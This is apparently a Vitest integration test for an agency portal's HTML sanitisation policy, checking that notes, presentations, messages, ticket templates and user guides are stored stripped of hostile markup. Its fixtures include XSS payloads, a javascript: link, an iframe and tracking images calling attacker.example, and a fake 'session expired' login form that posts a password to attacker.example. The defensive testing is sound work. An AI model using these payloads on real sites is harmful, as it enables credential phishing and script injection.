/**
 * Issue 28 §2 over real HTTP: the sandbox stores what the HTML policy keeps (read back as the
 * portal and the CLI would), for every kind of field that holds user text; the demo's own HTML
 * is already what the policy keeps.
 */
import { describe, expect, it } from 'vitest';
import { agencySettings, updateAgencyAppHomeMessages, updateAgencyPresentation } from '../../src/api/contract/agencySettings';
import { createNote, getNote, searchNotes } from '../../src/api/contract/notes';
import { createModel, listModels } from '../../src/api/contract/support';
import { createUserGuide, getUserGuide, searchUserGuides } from '../../src/api/contract/userGuides';
import { fillPath } from '../../src/api/endpoint';
import { sanitiseHtml } from '../../sandbox/html/sanitise';
import { lyonAndParisSandbox } from './sandbox-support';

const sandbox = lyonAndParisSandbox();

const HOSTILE_NOTE =
  '<style>.ap-shell{display:none}body{background:url(https://attacker.example/b)}</style>' +
  '<p style="position:fixed;inset:0" class="ap-modal">Rappeler <strong>Mme Martin</strong> lundi.</p>' +
  '<form action="https://attacker.example/login"><p>Session expirée</p><input name="login"><input type="password" name="password"><button>Se connecter</button></form>' +
  '<img src="https://attacker.example/pixel.gif" alt="suivi">';
const KEPT_NOTE = '<p>Rappeler <strong>Mme Martin</strong> lundi.</p><p>Session expirée</p>Se connecter';

async function aFamily(): Promise<number> {
  const { body } = await sandbox.api.post(searchNotes.path, { pageSize: 100 }, sandbox.director);
  return body.content.find((n: { familyId: number | null }) => n.familyId).familyId;
}

describe('user HTML stored as the policy keeps it', () => {
  it('stores a note written with a style sheet, a form and a remote image without any of them', async () => {
    const created = await sandbox.api.post(createNote.path, { content: HOSTILE_NOTE, familyId: await aFamily() }, sandbox.director);
    expect(created.status).toBe(200);
    const read = await sandbox.api.get(fillPath(getNote.path, { id: created.body.id }), sandbox.director);
    expect(read.body.content).toBe(KEPT_NOTE);
  });

  it('refuses a note that is nothing but a script, as an empty one', async () => {
    const answer = await sandbox.api.post(createNote.path, { content: '<script>alert(1)</script><style>*{}</style>', familyId: await aFamily() }, sandbox.director);
    expect(answer.status).toBe(400);
    expect(answer.body.errors.map((e: { field: string }) => e.field)).toEqual(['content']);
  });

  it('keeps the policy on the agency presentation, and no markup at all in the app home messages', async () => {
    const params = { agencyId: 1 };
    await sandbox.api.put(fillPath(updateAgencyPresentation.path, params), { presentation: '<h2>Qui sommes-nous ?</h2><iframe src="https://attacker.example"></iframe><p onclick="x()">Depuis 2010 &amp; à Lyon.</p>' }, sandbox.director);
    await sandbox.api.put(fillPath(updateAgencyAppHomeMessages.path, params), { proMessage: 'Réunion <b>mardi</b> à 9 h <script>alert(1)</script>& café', parentsMessage: '&lt;img src=x onerror=alert(1)&gt;Bonne rentrée' }, sandbox.director);
    const { body } = await sandbox.api.get(fillPath(agencySettings.path, params), sandbox.director);
    expect([body.presentation, body.proMessage, body.parentsMessage]).toEqual([
      '<h2>Qui sommes-nous ?</h2><p>Depuis 2010 &amp; à Lyon.</p>',
      'Réunion mardi à 9 h & café',
      'Bonne rentrée',
    ]);
  });

  it('keeps the policy on ticket entry models and on user guides', async () => {
    const agent = (await sandbox.api.login('agent@demo.fr')).token;
    await sandbox.api.post(createModel.path, { title: 'Lien', content: '<p>Voir <a href="javascript:alert(1)">ici</a> ou <a href="https://aide.example/x" target="_self">là</a></p>' }, agent);
    const models = (await sandbox.api.get(listModels.path, agent)).body as { title: string; content: string }[];
    expect(models.find((m) => m.title === 'Lien')?.content).toBe('<p>Voir <a>ici</a> ou <a href="https://aide.example/x" rel="noopener noreferrer" target="_blank">là</a></p>');
    const admin = (await sandbox.api.login('admin@demo.fr')).token;
    const guide = await sandbox.api.post(createUserGuide.path, {
      title: 'Guide ajouté', description: '', roleRestriction: [], scope: 'PORTAL', visible: true,
      content: '<h2>Étapes</h2><object data="x.swf"></object><ol><li>Ouvrir</li></ol><img src="/private/medias/3/download" alt="Plan"><img src="http://attacker.example/x.png">',
    }, admin);
    const read = await sandbox.api.get(fillPath(getUserGuide.path, { id: guide.body.id }), admin);
    expect(read.body.content).toBe('<h2>Étapes</h2><ol><li>Ouvrir</li></ol><img src="/private/medias/3/download" alt="Plan">');
  });

  it("has demo notes, guides and presentations that are already what the policy keeps", async () => {
    const paris = (await sandbox.api.get(fillPath(agencySettings.path, { agencyId: 3 }), sandbox.paris)).body.presentation as string;
    expect(paris).toBe('<p>Garde d’enfants et aide à domicile dans le 11e arrondissement.</p>');
    expect(sanitiseHtml(paris)).toBe(paris);
    const notes = (await sandbox.api.post(searchNotes.path, { pageSize: 100 }, sandbox.director)).body.content as { content: string }[];
    // Lyon's eight notes.
    expect(notes.length).toBe(8);
    for (const note of notes) expect(sanitiseHtml(note.content)).toBe(note.content);
    const admin = (await sandbox.api.login('admin@demo.fr')).token;
    const guides = (await sandbox.api.post(searchUserGuides.path, { pageNumber: 0, pageSize: 500 }, admin)).body.content as { id: number; title: string }[];
    for (const { id } of guides.filter((g) => g.title !== 'Guide ajouté')) {
      const { content } = (await sandbox.api.get(fillPath(getUserGuide.path, { id }), admin)).body as { content: string };
      expect(content).toContain('<img src="data:image/png;base64,');
      expect(sanitiseHtml(content)).toBe(content);
    }
  });
});
